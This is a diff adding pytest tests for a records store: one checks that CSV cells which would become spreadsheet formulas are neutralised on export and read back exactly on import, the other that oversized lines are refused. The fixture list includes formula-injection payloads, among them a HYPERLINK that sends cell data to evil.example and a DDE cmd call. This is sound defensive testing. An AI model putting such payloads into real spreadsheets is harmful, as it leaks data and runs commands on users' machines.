@@ -3,6 +3,7 @@ sees, all or nothing (record counts before and after), and an idempotent re-run.
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
 from pathlib import Path
 
@@ -12,7 +13,7 @@ import pytest
 from store.exports import export_project
 from store.projects import create_project
 from store.record_import import check_file, import_file, preview
-from store.records import AlreadyImported, import_records, iter_records
+from store.records import AlreadyImported, create_record, import_records, iter_records
 from store.tablefile import TableFileError
 from tests.exports.helpers import USER, form, make_project
 
@@ -127,6 +128,41 @@ def test_every_bad_row_is_reported_with_its_row_number_and_nothing_is_imported(s
     assert "Row 3, column “count”: " in text and "Row 6, field “observer”: This field is required." in text
     assert "Nothing was imported: 7 problems in 8 rows." in text
     assert count(store, project.id) == before and audit_imports(store) == 0
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "+41 79 123", "-dash", "@SUM(A1)",
+            "\tTAB", "'=already quoted", "''=twice", "'tis the season", "plain", "a=b", "\u2212unicode minus"]
+
+
+def test_csv_cells_that_would_be_formulas_are_neutralised_and_read_back_exactly(store, tmp_path):
+    """A label or value typed as =HYPERLINK(…) must not become a formula in a spreadsheet; the
+    import undoes exactly what the export added, so the round trip stays exact."""
+    source = create_project(store, "Formulas", form(2), user=USER)
+    for text in FORMULAS:
+        create_record(store, source.id, {"observer": text}, user=USER)
+    out = tmp_path / "f.csv"
+    export_project(store, source.id, "csv", out)
+    with open(out, encoding="utf-8-sig", newline="") as fh:
+        rows = list(csv.reader(fh))
+    column = rows[0].index("observer")
+    cells = [r[column] for r in rows[1:]]
+    assert all(not c or c[0] not in "=+-@\t\r" for c in cells), cells
+    assert "'" + FORMULAS[0] in cells and "'''=twice" in cells and "'tis the season" in cells and "plain" in cells
+    target = create_project(store, "Back", form(2), user=USER)
+    report = import_file(store, target.id, out, user=USER, status="draft")
+    assert report.ok, report.text()
+    assert sorted(r.data["observer"] for r in iter_records(store, target.id)) == sorted(FORMULAS)
+
+
+def test_a_first_line_over_the_csv_field_limit_is_a_plain_refusal(store, project, tmp_path):
+    wide = tmp_path / "wide.csv"
+    wide.write_text("observer\n" + "x" * 200_000 + "\n", encoding="utf-8")
+    big = tmp_path / "bighead.csv"
+    big.write_text("o" * 200_000 + "\nx\n", encoding="utf-8")
+    for path in (wide, big):
+        with pytest.raises(TableFileError, match="cannot be read as CSV"):
+            import_file(store, project.id, path, user=USER)
+    assert count(store, project.id) == 0
 
 
 @pytest.mark.parametrize(
